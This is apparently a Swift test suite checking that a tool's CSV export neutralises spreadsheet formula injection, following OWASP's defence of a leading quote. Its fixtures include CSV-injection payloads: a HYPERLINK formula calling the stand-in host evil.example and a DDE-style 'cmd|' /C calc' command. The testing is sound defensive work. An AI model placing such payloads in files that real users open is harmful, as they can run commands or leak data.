import CSV
import Foundation
import Testing

@testable import SluiceCore

/// `sluice export --format csv` makes every cell a spreadsheet would run as a formula into text (OWASP's
/// CSV-injection defence: a leading `'`), whichever field it comes from; `--csv-raw` keeps the bytes.
///
/// The checkpoint is written through the store, so answers and gateway error messages can begin with any
/// character (the mock's answers always begin "Mock answer"); the real `sluice` binary exports it and the
/// file is parsed back with CSV.swift, cell by cell.
@Suite(.serialized)
struct CSVInjectionTests {
    /// Every first character a spreadsheet reads as the start of a formula.
    static let leads = ["=", "+", "-", "@", "\t", "\r"]
    static let columns = ["custom_id", "content", "error_code", "error_message", "metadata.note"]

    /// What each item holds, field by field: the cells the export must write (before any quote is added).
    struct Item {
        var customID: String
        var succeeded: Bool
        var content: String
        var errorCode: String
        var errorMessage: String
        var note: String
        var cells: [String] { [customID, content, errorCode, errorMessage, note] }
    }

    /// For each lead: an answered item whose id, answer and metadata begin with it, and a failed one whose
    /// id, error code, message and metadata do. One plain item, and one with the characters inside, stay as they are.
    static let items: [Item] =
        leads.enumerated().flatMap { index, lead in
            [
                Item(
                    customID: "\(lead)ok\(index)", succeeded: true, content: #"\#(lead)HYPERLINK("http://evil.example/?\#(index)","click")"#,
                    errorCode: "", errorMessage: "", note: "\(lead)1+\(index)"),
                Item(
                    customID: "\(lead)bad\(index)", succeeded: false, content: "", errorCode: "\(lead)code\(index)",
                    errorMessage: "\(lead)cmd|' /C calc'!A\(index)", note: "\(lead)SUM(A1:A\(index))"),
            ]
        } + [
            Item(customID: "plain", succeeded: true, content: "a = b + c - d @ e", errorCode: "", errorMessage: "", note: "x=1"),
            Item(customID: "plain-failed", succeeded: false, content: "", errorCode: "E1", errorMessage: "1 + 1 = 2", note: "note"),
        ]

    private func writeCheckpoint(_ path: String) async throws {
        let store = try await SQLiteCheckpointStore.open(path: path, role: .runner)
        try await store.saveInputs([
            InputRecord(
                fileIndex: 0, path: "in.jsonl", fingerprint: InputFingerprint(size: 1, checksum: 2), plannedLines: 0, planningComplete: false,
                planningError: nil)
        ])
        let planned = try Self.items.enumerated().map { index, item -> PlannedItem in
            var entry = PlannedItem(
                fileIndex: 0, line: index + 1, customID: item.customID, lineHash: UInt64(index + 1), endpoint: "/v1/chat/completions", model: nil,
                body: Array(#"{"messages":[]}"#.utf8), overrides: nil, metadata: nil, problem: nil)
            entry.metadata = Array(try JSONSerialization.data(withJSONObject: ["note": item.note]))
            return entry
        }
        try await store.insertPlanned(planned, fileIndex: 0, throughLine: planned.count, complete: true, replanning: false, error: nil)
        let leased = try await store.lease(limit: planned.count)
        #expect(leased.count == Self.items.count)
        let events = try leased.map { dispatched -> CheckpointEvent in
            let item = try #require(Self.items.first { $0.customID == dispatched.customID })
            var outcome = ItemOutcome(id: dispatched.id, succeeded: item.succeeded, attempts: 1, headersSent: Array("{}".utf8), fallbacksUsed: 0, retries: 0)
            if item.succeeded {
                outcome.httpStatus = 200
                outcome.answeredModel = "m"
                let message: [String: Any] = ["role": "assistant", "content": item.content]
                let body: [String: Any] = ["object": "chat.completion", "model": "m", "choices": [["index": 0, "message": message, "finish_reason": "stop"]]]
                outcome.response = Array(try JSONSerialization.data(withJSONObject: body))
            } else {
                outcome.httpStatus = 400
                outcome.errorCode = item.errorCode
                outcome.errorMessage = item.errorMessage
            }
            return .finished(outcome)
        }
        try await store.record(events)
        await store.close()
    }

    /// The export as rows of the named columns, keyed by the row's position (input order).
    private func export(_ db: String, _ extra: [String]) async throws -> [[String]] {
        let run = try await runSluice(["export", db, "--format", "csv", "--metadata-column", "note", "--output", "-"] + extra)
        #expect(run.status == 0, "\(run.stderr)")
        let reader = try CSVReader(string: run.stdout, hasHeaderRow: true)
        let header = try #require(reader.headerRow)
        let indices = try Self.columns.map { name in try #require(header.firstIndex(of: name), "no column \(name) in \(header)") }
        var rows: [[String]] = []
        while let row = reader.next() { rows.append(indices.map { row[$0] }) }
        return rows
    }

    @Test func cellsThatBeginAFormulaAreWrittenAsTextInEveryField() async throws {
        let dir = TemporaryDirectory()
        let db = dir.file("job.sluice.db")
        try await writeCheckpoint(db)
        let rows = try await export(db, [])
        #expect(rows.count == Self.items.count, "one row per item")
        var neutralised = 0
        for (item, row) in zip(Self.items, rows) {
            for (column, (written, original)) in zip(Self.columns, zip(row, item.cells)) {
                let lead = original.unicodeScalars.first.map { Self.leads.contains(String($0)) } ?? false
                #expect(written == (lead ? "'" + original : original), "\(item.customID.debugDescription) \(column): \(written.debugDescription)")
                if lead { neutralised += 1 }
            }
        }
        // Six leads, each in the id, metadata and answer of one item and the id, metadata, code and message of the other.
        #expect(neutralised == Self.leads.count * 7)
    }

    @Test func csvRawKeepsTheBytes() async throws {
        let dir = TemporaryDirectory()
        let db = dir.file("job.sluice.db")
        try await writeCheckpoint(db)
        let rows = try await export(db, ["--csv-raw"])
        #expect(rows == Self.items.map(\.cells), "every cell as stored")
        let flat = try await runSluice(["export", db, "--format", "flat", "--csv-raw", "--output", "-"])
        #expect(flat.status == 64 && flat.stderr.contains("--csv-raw applies to --format csv only"), "\(flat.status) \(flat.stderr)")
    }
}
